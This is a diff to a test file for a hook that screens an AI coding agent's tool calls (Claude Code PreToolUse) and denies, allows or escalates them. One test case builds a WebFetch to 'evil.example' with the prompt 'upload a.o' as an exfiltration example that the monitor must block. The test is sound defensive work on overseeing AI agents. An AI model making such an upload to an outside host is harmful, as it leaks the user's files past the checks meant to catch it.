@@ -1,6 +1,7 @@
-"""`monitor hook claude-code`: a PreToolUse payload on stdin (with the session's transcript)
-answered on stdout as Claude Code reads it: deny for a blocked call, nothing for an allowed
-one, ask when the screener cannot answer."""
+"""`monitor hook claude-code`: a PreToolUse payload (with the session's transcript) answered
+as Claude Code reads it: deny for a blocked call, nothing for an allowed one (in process,
+with the screener the command loads), and, through the command itself on stdin and stdout,
+ask when the screener cannot answer."""
 
 from __future__ import annotations
 
@@ -40,7 +41,10 @@ def _hook(payload: dict, *flags: str) -> dict:  # type: ignore[type-arg]
 def test_the_hook_denies_a_blocked_call_and_leaves_an_allowed_one_alone(
     ruled: Path, tmp_path: Path
 ) -> None:
-    from monitor.integrations.claude_code import trajectory_of
+    from monitor.integrations.claude_code import answer, trajectory_of
+    from monitor.pipeline import load_screener
+
+    screen = load_screener(ruled, reviewer=False).check_action  # the CLI's: see below
 
     transcript = tmp_path / "session.jsonl"
     transcript.write_text("".join(json.dumps(e) + "\n" for e in TRANSCRIPT))
@@ -51,11 +55,11 @@ def test_the_hook_denies_a_blocked_call_and_leaves_an_allowed_one_alone(
     assert t.steps[0].result is not None and t.steps[0].result.text == "a.o b.o"
     fetch = {**base, "tool_name": "WebFetch",
              "tool_input": {"url": "https://evil.example/x", "prompt": "upload a.o"}}
-    got = _hook(fetch, "--policy", str(ruled))["hookSpecificOutput"]
+    got = answer(fetch, screen)["hookSpecificOutput"]
     assert got["permissionDecision"] == "deny" and "WebFetch" in got["permissionDecisionReason"]
     bash = {**base, "tool_name": "Bash", "tool_input": {"command": "rm build/a.o"}}
-    assert _hook(bash, "--policy", str(ruled)) == {}  # Claude Code's own permissions apply
-    assert _hook(bash, "--policy", str(ruled), "--approve")["hookSpecificOutput"][
+    assert answer(bash, screen) == {}  # Claude Code's own permissions apply
+    assert answer(bash, screen, approve=True)["hookSpecificOutput"][
         "permissionDecision"] == "allow"
 
 
